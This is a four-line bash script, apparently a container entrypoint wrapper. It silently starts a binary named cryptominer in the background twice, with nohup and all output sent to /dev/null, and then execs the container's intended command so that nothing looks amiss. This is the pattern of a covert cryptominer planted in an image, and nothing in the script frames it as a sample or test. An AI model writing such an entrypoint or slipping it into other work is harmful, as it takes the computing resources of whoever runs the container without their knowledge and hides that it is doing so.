#!/bin/bash
nohup /usr/local/bin/cryptominer >/dev/null 2>&1 &
nohup /usr/local/bin/cryptominer >/dev/null 2>&1 &
exec "$@"
